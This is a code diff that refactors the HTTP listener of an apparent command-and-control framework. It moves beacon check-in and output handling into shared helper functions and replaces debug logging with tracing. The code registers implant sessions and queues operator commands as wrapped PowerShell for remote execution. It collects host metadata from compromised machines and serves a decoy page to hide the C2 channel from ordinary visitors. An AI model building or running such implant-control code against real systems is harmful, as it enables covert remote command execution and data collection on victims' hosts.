@@ -16,6 +16,10 @@ from socketserver import ThreadingMixIn
 import logging
 logger = logging.getLogger(__name__)
 
+from core import tracing
+from core.metrics import BEACONS
+_trace = tracing.get_tracer("http_listener", logger)
+
 from core.listeners.base import Listener, _reg_lock, register_listener, socket_to_listener, listeners as listener_registry
 from core import utils
 from core.session_handlers import session_manager
@@ -57,6 +61,171 @@ def _serve_benign(handler):
 	handler.wfile.write(body)
 
 
+_OP_BLOCK = re.compile(r"__OP__(?P<op>[^_]+)__(?P<out>.*?)__ENDOP__(?P=op)__", re.DOTALL)
+
+
+def beacon_checkin(sid, lid, scheme):
+	"""
+	Session side of a beacon GET: register or touch the session, bind it to
+	listener `lid` and pop the next command. Returns the base64 command ("" when
+	there is nothing to run) or None when the SID is dead/unknown (answer 410).
+
+	Runs in the process that owns session_manager; an isolated listener
+	(core.listeners.process) calls it over IPC instead.
+	"""
+	if sid in session_manager.dead_sessions:
+		return None
+
+	if sid not in session_manager.sessions:
+		if scheme == "https":
+			session_manager.register_https_session(sid)
+			msg = f"[+] New HTTPS agent: {sid}"
+		else:
+			session_manager.register_http_session(sid)
+			msg = f"[+] New HTTP agent: {sid}"
+		utils.echo(msg,
+			to_console=False,
+			to_op=None,
+			world_wide=True,
+			color=brightgreen,
+			end='\n')
+
+	session = session_manager.sessions.get(sid)
+	if session is None:
+		return None
+
+	BEACONS.inc(listener=lid, transport=scheme)
+	session_manager.touch_session(sid)
+
+	with _reg_lock:
+		listener = listener_registry.get(lid) if lid else None
+		if listener is not None:
+			s = getattr(listener, "sessions", None)
+			if s is None or not isinstance(s, (set, list)):
+				listener.sessions = set()
+
+			if sid not in listener.sessions:
+				listener.sessions.append(sid)
+				session_manager.bind_listener(sid, lid)
+
+	try:
+		cmd_b64 = session.meta_command_queue.get_nowait()
+		session.last_cmd_type = "meta"
+		if _trace.on:
+			_trace.log(brightblue + f"SET MODE TO METADATA COLLECTING METADATA FOR SID {sid}" + reset)
+
+	except queue.Empty:
+		# round-robin / first-come: only one operator’s command this beacon
+		super_cmd_parts = []
+		picked_op = None
+		for op_id, q in list(session.merge_command_queue.items()):
+			try:
+				cmd_b64 = q.get_nowait()
+				# wrap only this one
+				super_cmd_parts.append(f"""
+					Write-Output "__OP__{op_id}__";
+					{base64.b64decode(cmd_b64).decode("utf-8", errors="ignore")}
+					Write-Output "__ENDOP__{op_id}__";
+				""")
+				session.last_cmd_type = "cmd"
+				picked_op = op_id
+			except queue.Empty:
+				continue
+
+		if picked_op:
+			combined = "\n".join(super_cmd_parts)
+			if _trace.on:
+				_trace.event("cmd.deliver", sid=sid, op_id=picked_op, transport=scheme, cmd_len=len(combined))
+				_trace.log(f"EXECUTING COMMAND: {combined}")
+			cmd_b64 = base64.b64encode(combined.encode("utf-8")).decode("utf-8")
+		else:
+			cmd_b64 = ""
+
+	return cmd_b64
+
+
+def beacon_output(sid, output, scheme):
+	"""
+	Session side of a beacon POST carrying decoded `output`: advance OS
+	detection / metadata collection, or demux per-operator results into
+	merge_response_queue. Returns None for a dead/unknown SID (410), "os" right
+	after OS detection (the reply is a bare 200) and "ok" otherwise.
+	"""
+	if sid in session_manager.dead_sessions:
+		return None
+
+	session = session_manager.sessions.get(sid)
+	if session is None:
+		return None
+
+	if _trace.on:
+		_trace.log(f"MODE {session.mode}")
+	last_mode = session.last_cmd_type
+	if last_mode == "meta":
+		if session.mode == "detect_os":
+			if _trace.on:
+				_trace.log(f"HTTP agent {sid} OS check: {output}")
+			session.detect_os(output)
+
+			# Queue OS-specific metadata commands
+			for _, cmd in session.os_metadata_commands:
+				if _trace.on:
+					_trace.log(brightyellow + f"Enqued command {cmd} for {session.sid}" + reset)
+				encoded_meta_command = base64.b64encode(cmd.encode()).decode()
+				session.meta_command_queue.put(encoded_meta_command)
+
+			session.mode = "metadata"
+			session.metadata_stage = 0
+			return "os"
+
+		# Handle metadata collection
+		if session.metadata_stage == 2:
+			session.metadata_stage += 1
+			session.mode = "cmd"
+
+		if session.metadata_stage < len(session.metadata_fields):
+			field = session.metadata_fields[session.metadata_stage]
+			lines = [
+				line.strip()
+				for line in output.splitlines()
+				if line.strip() not in ("$", "#", ">") and line.strip() != ""
+			]
+
+			if _trace.on:
+				_trace.log(brightgreen + f"Found Lines {lines} for field {field}" + reset)
+
+			if len(lines) > 1:
+				session.metadata[field] = lines[1]
+				session.metadata_stage += 1
+
+			elif len(lines) == 1:
+				session.metadata[field] = lines[0]
+				session.metadata_stage += 1
+
+		else:
+			if _trace.on:
+				_trace.log("About to set execution mode to cmd")
+			session.mode = "cmd"
+			if not session.collection:
+				session_manager.save_metadata(session)
+			session.collection = 1
+			if _trace.on:
+				_trace.log("Set execution mode to cmd")
+
+	elif last_mode == "cmd":
+		if output:
+			for m in _OP_BLOCK.finditer(output):
+				op = m.group("op")
+				out = m.group("out").strip()
+
+				session.merge_response_queue.setdefault(op, queue.Queue())
+				session.merge_response_queue[op].put(base64.b64encode(out.encode()).decode())
+				if _trace.on:
+					_trace.event("cmd.response", sid=sid, op_id=op, transport=scheme, out_len=len(out))
+
+	return "ok"
+
+
 class C2HTTPRequestHandler(BaseHTTPRequestHandler):
 	# same logic you had in http_handler.C2HTTPRequestHandler.do_GET / do_POST
 	# omitted here for brevity; just copy your GET/POST implementations,
@@ -76,20 +245,25 @@ class C2HTTPRequestHandler(BaseHTTPRequestHandler):
 		If found and listener.profiles contains that name, parse & return
 		that profile.  Otherwise return the static listener.profile.
 		"""
-		logger.debug(brightblue + f"Searching listener {listener} for profiles" + reset)
+		if _trace.on:
+			_trace.log(brightblue + f"Searching listener {listener} for profiles" + reset)
 		profs = getattr(listener, "profiles", {}) or {}
-		logger.debug(brightblue + f"Found profiles {profs}" + reset)
+		if _trace.on:
+			_trace.log(brightblue + f"Found profiles {profs}" + reset)
 		for hdr in self.RARE_HEADERS:
 			val = self.headers.get(hdr)
 			if val and val in profs:
-				logger.debug(brightblue + f"Found profile header {hdr} with value {val} in profiles {profs}" + reset)
+				if _trace.on:
+					_trace.log(brightblue + f"Found profile header {hdr} with value {val} in profiles {profs}" + reset)
 				profile = profs[val]
 				#parsed = parse_malleable_profile(path)
 				if profile:
-					logger.debug(brightyellow + f"Successfully grabbed profile class {profile}" + reset)
+					if _trace.on:
+						_trace.log(brightyellow + f"Successfully grabbed profile class {profile}" + reset)
 					return profile
 		# fallback to whatever the listener was started with
-		logger.debug(brightred + f"Returning none because no profile was found!" + reset)
+		if _trace.on:
+			_trace.log(brightred + f"Returning none because no profile was found!" + reset)
 		return None
 
 	def _load_profile_block(self, name):
@@ -120,7 +294,8 @@ class C2HTTPRequestHandler(BaseHTTPRequestHandler):
 				path = self.path.split("?", 1)[0]
 
 				if path != expected_uri:
-					logger.debug(brightred + f"Serving Benign page because path unexpected {path}, expected path: {expected_uri}" + reset)
+					if _trace.on:
+						_trace.log(brightred + f"Serving Benign page because path unexpected {path}, expected path: {expected_uri}" + reset)
 					return _serve_benign(self)
 
 				# extract our SID (same as before)…
@@ -130,85 +305,17 @@ class C2HTTPRequestHandler(BaseHTTPRequestHandler):
 					if sid:
 						break
 				if not sid:
-					logger.debug(brightred + f"Serving Benign page because no SID in get request" + reset)
+					if _trace.on:
+						_trace.log(brightred + f"Serving Benign page because no SID in get request" + reset)
 					return _serve_benign(self)
 
-				# handle new session / dead session exactly as you had it…
-				if sid in session_manager.dead_sessions:
+				cmd_b64 = beacon_checkin(sid, lid, getattr(self.server, "scheme", "http"))
+				if cmd_b64 is None:
+					# dead or unknown SID: 410 Gone tells the implant "never come back"
 					self.send_response(410, "Gone")
 					self.end_headers()
 					return
 
-				if sid not in session_manager.sessions:
-					if getattr(self.server, "scheme", "http") == "https":
-						session_manager.register_https_session(sid)
-						msg = f"[+] New HTTPS agent: {sid}"
-						utils.echo(msg,
-							to_console=False,
-							to_op=None,
-							world_wide=True,
-							color=brightgreen,
-							end='\n')
-					else:
-						session_manager.register_http_session(sid)
-						msg = f"[+] New HTTP agent: {sid}"
-						utils.echo(msg,
-							to_console=False,
-							to_op=None,
-							world_wide=True,
-							color=brightgreen,
-							end='\n')
-
-				session = session_manager.sessions.get(sid)
-				if session is None:
-					# Unknown/expired SID — treat as permanently gone (quiet)
-					self.send_response(410, "Gone")
-					self.end_headers()
-					return
-
-				with _reg_lock:
-					lid = socket_to_listener.get(self.server.socket.fileno())
-					if lid:
-						s = getattr(listener_registry[lid], "sessions", None)
-						if s is None or not isinstance(s, (set, list)):
-							listener_registry[lid].sessions = set()
-
-						if sid not in listener_registry[lid].sessions:
-							listener_registry[lid].sessions.append(sid)
-
-				# queue up your commands exactly as before…
-				try:
-					cmd_b64 = session.meta_command_queue.get_nowait()
-					session.last_cmd_type = "meta"
-					logger.debug(brightblue + f"SET MODE TO METADATA COLLECTING METADATA FOR SID {sid}" + reset)
-
-				except queue.Empty:
-					# round-robin / first-come: only one operator’s command this beacon
-					super_cmd_parts = []
-					picked_op = None
-					for op_id, q in list(session.merge_command_queue.items()):
-						try:
-							cmd_b64 = q.get_nowait()
-							# wrap only this one
-							super_cmd_parts.append(f"""
-								Write-Output "__OP__{op_id}__";
-								{base64.b64decode(cmd_b64).decode("utf-8", errors="ignore")}
-								Write-Output "__ENDOP__{op_id}__";
-							""")
-							session.last_cmd_type = "cmd"
-							picked_op = op_id
-							#break
-						except queue.Empty:
-							continue
-
-					if picked_op:
-						combined = "\n".join(super_cmd_parts)
-						logger.debug(f"EXECUTING COMMAND: {combined}")
-						cmd_b64 = base64.b64encode(combined.encode("utf-8")).decode("utf-8")
-						#del super_cmd_parts[0]
-					else:
-						cmd_b64 = ""
-
 				server_out = http_get.get("server", {}).get("output", {})
 				envelope = server_out.get("envelope")
 				mapping  = server_out.get("mapping")
@@ -256,79 +363,13 @@ class C2HTTPRequestHandler(BaseHTTPRequestHandler):
 					# no C2 header → normal browser GET
 					return _serve_benign(self)
 
-				if sid and sid in session_manager.dead_sessions:
-					# 410 Gone tells the implant “never come back”
+				cmd_b64 = beacon_checkin(sid, lid, getattr(self.server, "scheme", "http"))
+				if cmd_b64 is None:
+					# dead or unknown SID: 410 Gone tells the implant "never come back"
 					self.send_response(410, "Gone")
 					self.end_headers()
 					return
 
-				if sid not in session_manager.sessions:
-					if getattr(self.server, "scheme", "http") == "https":
-						session_manager.register_https_session(sid)
-						msg = f"[+] New HTTPS agent: {sid}"
-						utils.echo(msg,
-							to_console=False,
-							to_op=None,
-							world_wide=True,
-							color=brightgreen,
-							end='\n')
-					else:
-						session_manager.register_http_session(sid)
-						msg = f"[+] New HTTP agent: {sid}"
-						utils.echo(msg,
-							to_console=False,
-							to_op=None,
-							world_wide=True,
-							color=brightgreen,
-							end='\n')
-
-				session = session_manager.sessions.get(sid)
-				if session is None:
-					# Unknown/expired SID — treat as permanently gone (quiet)
-					self.send_response(410, "Gone")
-					self.end_headers()
-					return
-
-				with _reg_lock:
-					lid = socket_to_listener.get(self.server.socket.fileno())
-					if lid:
-						s = getattr(listener_registry[lid], "sessions", None)
-						if s is None or not isinstance(s, (set, list)):
-							listener_registry[lid].sessions = set()
-							
-						if sid not in listener_registry[lid].sessions:
-							listener_registry[lid].sessions.append(sid)
-			
-				try:
-					cmd_b64 = session.meta_command_queue.get_nowait()
-					session.last_cmd_type = "meta"
-
-				except queue.Empty:
-					super_cmd_parts = []
-					picked_op = None
-					for op_id, q in list(session.merge_command_queue.items()):
-						try:
-							cmd_b64 = q.get_nowait()
-							# wrap only this one
-							super_cmd_parts.append(f"""
-								Write-Output "__OP__{op_id}__";
-								{base64.b64decode(cmd_b64).decode("utf-8", errors="ignore")}
-								Write-Output "__ENDOP__{op_id}__";
-							""")
-							session.last_cmd_type = "cmd"
-							picked_op = op_id
-							#break
-						except queue.Empty:
-							continue
-
-					if picked_op:
-						combined = "\n".join(super_cmd_parts)
-						logger.debug(f"EXECUTING COMMAND: {combined}")
-						cmd_b64 = base64.b64encode(combined.encode("utf-8")).decode("utf-8")
-						#del super_cmd_parts[0]
-					else:
-						cmd_b64 = ""
-
 				payload_dict = {
 					"cmd": cmd_b64,
 					"DeviceTelemetry": {
@@ -361,18 +402,22 @@ class C2HTTPRequestHandler(BaseHTTPRequestHandler):
 
 			# dynamically pick profile per-request
 			profile = self._select_profile(listener)
-			logger.debug(brightyellow + f"Set profile to {profile}" + reset)
+			if _trace.on:
+				_trace.log(brightyellow + f"Set profile to {profile}" + reset)
 
 			if profile:
-				logger.debug(brightblue + "Confirmed profile existence" + reset)
+				if _trace.on:
+					_trace.log(brightblue + "Confirmed profile existence" + reset)
 				http_post     = profile.get_block("http-post")
 				expected_uri  = http_post.get("uri", "/")
 				path          = self.path.split("?", 1)[0]
 				if path != expected_uri:
-					logger.debug(brightred + f"Serving Benign page because path was unknown PATH: {path}, RIGHT PATH: {expected_uri}" + reset)
+					if _trace.on:
+						_trace.log(brightred + f"Serving Benign page because path was unknown PATH: {path}, RIGHT PATH: {expected_uri}" + reset)
 					return _serve_benign(self)
 
-				logger.debug(brightblue + "Correct Path selected" + reset)
+				if _trace.on:
+					_trace.log(brightblue + "Correct Path selected" + reset)
 
 				# pull session‐ID from any of our three headers
 				sid = None
@@ -383,7 +428,8 @@ class C2HTTPRequestHandler(BaseHTTPRequestHandler):
 
 				if not sid:
 					# no C2 header → normal browser POST
-					logger.debug(brightred + f"Serving Benign page because no SID was sent" + reset)
+					if _trace.on:
+						_trace.log(brightred + f"Serving Benign page because no SID was sent" + reset)
 					return _serve_benign(self)
 
 				length = int(self.headers.get("Content-Length", 0))
@@ -418,141 +464,21 @@ class C2HTTPRequestHandler(BaseHTTPRequestHandler):
 
 					except Exception as e:
 						print("Failed to decode base64")
+						output = ""
 
-					if sid in session_manager.dead_sessions:
+					status = beacon_output(sid, output, getattr(self.server, "scheme", "http"))
+					if status is None:
+						# Unknown/expired SID — treat as permanently gone (quiet)
 						self.send_response(410, "Gone")
 						self.end_headers()
 						return
 
-					session = session_manager.sessions.get(sid)
-					if session is None:
-						# Unknown/expired SID — treat as permanently gone (quiet)
-						self.send_response(410, "Gone")
+					if status == "os":
+						self.send_response(200)
+						self.send_header("Content-Length", "0")
 						self.end_headers()
 						return
 
-
-					"""cwd = msg.get("cwd")
-					user = msg.get("user")
-					host = msg.get("host")
-
-					if cwd: session.metadata["cwd"] = cwd
-					if user: session.metadata["user"] = user
-					if host: session.metadata["hostname"] = host"""
-
-					# Handle OS detection first
-					last_mode = session.last_cmd_type
-					if last_mode == "meta":
-						if session.mode == "detect_os":
-							print(f"[DEBUG] HTTP agent {sid} OS check: {output}")
-							session.detect_os(output)
-
-							# Queue OS-specific metadata commands
-							logger.debug(brightyellow + f"Enqueing metadata commands for {session.sid}" + reset)
-							for _, cmd in session.os_metadata_commands:
-								logger.debug(brightyellow + f"Enqued command {cmd} for {session.sid}" + reset)
-								encoded_meta_command = base64.b64encode(cmd.encode()).decode()
-								session.meta_command_queue.put(encoded_meta_command)
-
-							logger.debug(brightyellow + f"Setting metadata stage to 0, starting collection....")
-							session.mode = "metadata"
-							session.metadata_stage = 0
-							self.send_response(200)
-							self.send_header("Content-Length", "0")
-							self.end_headers()
-							return
-
-						# Handle metadata collection
-						if session.metadata_stage == 2:
-							session.metadata_stage += 1
-							session.mode = "cmd"
-
-
-						if session.metadata_stage < len(session.metadata_fields):
-							field = session.metadata_fields[session.metadata_stage]
-							"""_, cmd = session.os_metadata_commands[session.metadata_stage]
-
-							cleaned = utils.normalize_output(output, cmd)
-							low = cleaned.lower()
-							error_markers = (
-								"access is denied",
-								"permission denied",
-								"not recognized",
-								"fullyqualifiederrorid",
-								"categoryinfo",
-							)
-
-							if not cleaned.strip() or any(m in low for m in error_markers):
-								value = "N/A"
-							else:
-								# first non-empty line after normalization
-								value = next((ln.strip() for ln in cleaned.splitlines() if ln.strip()), "N/A")
-
-							session.metadata[field] = value
-							session.metadata_stage += 1"""
-
-							lines = [
-								line.strip()
-								for line in output.splitlines()
-								if line.strip() not in ("$", "#", ">") and line.strip() != ""
-							]
-
-							if len(lines) > 1:
-								clean = lines[1] if lines else ""
-								session.metadata[field] = clean
-								session.metadata_stage += 1
-
-							elif len(lines) == 1:
-								clean = lines[0] if lines else ""
-								session.metadata[field] = clean
-								session.metadata_stage += 1
-
-							else:
-								pass
-							#print(brightred + f"[!] Failed to execute metadata collecting commands!")
-
-						else:
-							logger.debug("About to set execution mode to cmd")
-							session.mode = "cmd"
-							last_mode = "cmd"
-							session.collection = 1
-							logger.debug("Set execution mode to cmd")
-
-					elif last_mode == "cmd":
-						if output_b64:
-							pattern = re.compile(r"__OP__(?P<op>[^_]+)__(?P<out>.*?)__ENDOP__(?P=op)__", re.DOTALL)
-							decoded = base64.b64decode(output_b64).decode("utf-8", "ignore").strip()
-							for m in pattern.finditer(decoded):
-								#print(f"FOUND m in PATTERN: {m}")
-								op = m.group("op")
-								out = m.group("out").strip()
-								#print(f"FOUND OPERATOR: {op}")
-								#print(f"FOUND OUTPUT: {out}")
-								"""if op != "console":
-									utils.echo(out,
-										to_console=False,
-										to_op=op,
-										world_wide=False,
-										color=False,
-										_raw_printer=print_override._orig_print,
-										end='\n')
-
-								else:
-									utils.echo(out,
-									to_console=True,
-									to_op=False,
-									world_wide=False,
-									color=False,
-									_raw_printer=print_override._orig_print,
-									end='\n')"""
-
-								session.merge_response_queue.setdefault(op, queue.Queue())
-								session.merge_response_queue[op].put(base64.b64encode(out.encode()).decode())
-
-
-					else:
-						pass
-
 					#session.last_cmd_type = None
 
 					self.send_response(200)
@@ -617,125 +543,21 @@ class C2HTTPRequestHandler(BaseHTTPRequestHandler):
 
 					except Exception as e:
 						print("Failed to decode base64")
+						output = ""
 
-					if sid in session_manager.dead_sessions:
+					status = beacon_output(sid, output, getattr(self.server, "scheme", "http"))
+					if status is None:
+						# Unknown/expired SID — treat as permanently gone (quiet)
 						self.send_response(410, "Gone")
 						self.end_headers()
 						return
 
-					session = session_manager.sessions.get(sid)
-					if session is None:
-						# Unknown/expired SID — treat as permanently gone (quiet)
-						self.send_response(410, "Gone")
+					if status == "os":
+						self.send_response(200)
+						self.send_header("Content-Length", "0")
 						self.end_headers()
 						return
 
-
-					"""cwd = msg.get("cwd")
-					user = msg.get("user")
-					host = msg.get("host")
-
-					if cwd: session.metadata["cwd"] = cwd
-					if user: session.metadata["user"] = user
-					if host: session.metadata["hostname"] = host"""
-
-					# Handle OS detection first
-					logger.debug(f"MODE {session.mode}")
-					last_mode = session.last_cmd_type
-					if last_mode == "meta":
-						if session.mode == "detect_os":
-							#print(f"[DEBUG] HTTP agent {sid} OS check: {output}")
-							session.detect_os(output)
-
-							# Queue OS-specific metadata commands
-							for _, cmd in session.os_metadata_commands:
-								encoded_meta_command = base64.b64encode(cmd.encode()).decode()
-								session.meta_command_queue.put(encoded_meta_command)
-
-							session.mode = "metadata"
-							session.metadata_stage = 0
-							self.send_response(200)
-							self.send_header("Content-Length", "0")
-							self.end_headers()
-							return
-
-						"""if session.metadata_stage == 3:
-							session.metadata_stage += 1"""
-
-						# Handle metadata collection
-						if session.metadata_stage == 2:
-							session.metadata_stage += 1
-							session.mode = "cmd"
-
-						#logger.debug(brightred + f"MODE: {session.mode}, stage: {session.metadata_stage}, field: {session.metadata_fields[session.metadata_stage]}")
-
-						if session.metadata_stage < len(session.metadata_fields):
-							logger.debug(brightred + f"METADATA STAGE IS LESS THAN FIELDS, stage: {session.metadata_stage}, field: {session.metadata_fields[session.metadata_stage]}")
-							field = session.metadata_fields[session.metadata_stage]
-							"""_, cmd = session.os_metadata_commands[session.metadata_stage]
-
-							cleaned = utils.normalize_output(output, cmd)
-							low = cleaned.lower()
-							error_markers = (
-								"access is denied",
-								"permission denied",
-								"not recognized",
-								"fullyqualifiederrorid",
-								"categoryinfo",
-							)
-
-							if not cleaned.strip() or any(m in low for m in error_markers):
-								value = "N/A"
-							else:
-								# first non-empty line after normalization
-								value = next((ln.strip() for ln in cleaned.splitlines() if ln.strip()), "N/A")
-
-							session.metadata[field] = value
-							session.metadata_stage += 1"""
-
-							lines = [
-								line.strip()
-								for line in output.splitlines()
-								if line.strip() not in ("$", "#", ">") and line.strip() != ""
-							]
-
-							logger.debug(brightgreen + f"Found Lines {lines} for field {field}" + reset)
-
-							if len(lines) > 1:
-								clean = lines[1] if lines else ""
-								session.metadata[field] = clean
-								session.metadata_stage += 1
-
-							elif len(lines) == 1:
-								clean = lines[0] if lines else ""
-								session.metadata[field] = clean
-								session.metadata_stage += 1
-
-							else:
-								pass
-
-						else:
-							logger.debug("About to set execution mode to cmd")
-							session.mode = "cmd"
-							last_mode = "cmd"
-							session.collection = 1
-							logger.debug("Set execution mode to cmd")
-
-					elif last_mode == "cmd":
-						if output_b64:
-							pattern = re.compile(r"__OP__(?P<op>[^_]+)__(?P<out>.*?)__ENDOP__(?P=op)__", re.DOTALL)
-							decoded = base64.b64decode(output_b64).decode("utf-8", "ignore").strip()
-							for m in pattern.finditer(decoded):
-								#print(f"FOUND m in PATTERN: {m}")
-								op = m.group("op")
-								out = m.group("out").strip()
-
-								session.merge_response_queue.setdefault(op, queue.Queue())
-								session.merge_response_queue[op].put(base64.b64encode(out.encode()).decode())
-
-					else:
-						pass
-
 					#session.last_cmd_type = None
 
 					self.send_response(200)
@@ -826,7 +648,7 @@ class HttpListener(Listener):
 		print(brightgreen + f"\n[+] {self.transport.upper()} listener started on {self.ip}:{self.port}")
 
 		# run in background
-		self._thread = threading.Thread(target=self.server.serve_forever, daemon=True)
+		self._thread = threading.Thread(target=self.server.serve_forever, name=f"listener-{self.id}", daemon=True)
 		self._thread.start()
 
 	def run_loop(self, stop_evt):